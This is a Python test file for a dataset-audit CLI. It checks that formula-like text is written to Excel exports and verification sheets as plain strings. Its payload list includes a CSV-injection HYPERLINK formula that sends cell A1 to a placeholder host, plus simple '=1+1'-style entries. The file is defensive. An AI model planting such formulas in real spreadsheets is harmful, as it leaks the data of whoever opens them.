"""Dataset text that starts with ``=`` is written to Excel as text, never as a formula."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
from openpyxl import load_workbook

from ..conftest import run_cli

FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"클릭")', "=1+1", "+1+1", "-1+1", "@SUM(A1)"]


def _data(path: Path) -> None:
    texts = [*FORMULAS, *(f"리뷰 {i}: {'좋아요 재미있어요' if i % 2 else '별로 지루해요'}" for i in range(60))]
    pd.DataFrame({"id": [f"R{i:05d}" for i in range(len(texts))], "text": texts,
                  "label": ["pos" if i % 2 else "neg" for i in range(len(texts))]}).to_csv(path, index=False)


def _cells(path: Path, column: str) -> dict[str, tuple[str, object]]:
    sheet = load_workbook(path).worksheets[0]
    header = [c.value for c in sheet[1]]
    at = header.index(column)
    return {str(row[header.index("id") if "id" in header else 0].value): (row[at].data_type, row[at].value)
            for row in sheet.iter_rows(min_row=2)}


def test_export_and_verify_sample_write_formula_like_text_as_text(tmp_path: Path) -> None:
    data, ws = tmp_path / "inj.csv", tmp_path / "ws"
    _data(data)
    audited = run_cli(["audit", data, "--id", "id", "--label", "label", "--text", "text", "--no-embed",
                       "--detector", "exact_duplicate", "-w", ws])
    assert audited.exit_code == 0, audited.output
    out = tmp_path / "out.xlsx"
    assert run_cli(["export", out, "-w", ws]).exit_code == 0
    cells = _cells(out, "text")
    assert [cells[f"R{i:05d}"] for i in range(len(FORMULAS))] == [("s", text) for text in FORMULAS]
    assert pd.read_excel(out, dtype=str)["text"].tolist()[:len(FORMULAS)] == FORMULAS

    check = tmp_path / "check.xlsx"
    drawn = run_cli(["verify-sample", data, "--id", "id", "--label", "label", "--text", "text", "--size", "65",
                     "-o", check])
    assert drawn.exit_code == 0, drawn.output
    sheet = load_workbook(check).worksheets[0]
    header = [c.value for c in sheet[1]]
    texts = {row[header.index("row_id")].value: (row[header.index("text")].data_type, row[header.index("text")].value)
             for row in sheet.iter_rows(min_row=2)}
    assert [texts[f"R{i:05d}"] for i in range(len(FORMULAS))] == [("s", text) for text in FORMULAS]
    # filled in (as a person would, in the same workbook), the sample reads back as the data's rows
    book = load_workbook(check)
    sheet = book.worksheets[0]
    for row in sheet.iter_rows(min_row=2):
        row[header.index("verified_label")].value = row[header.index("given_label")].value
    filled = tmp_path / "filled.xlsx"
    book.save(filled)
    again = run_cli(["audit", data, "--id", "id", "--label", "label", "--text", "text", "--no-embed",
                     "--detector", "label", "--verified", filled, "-w", ws])
    assert again.exit_code == 0, again.output
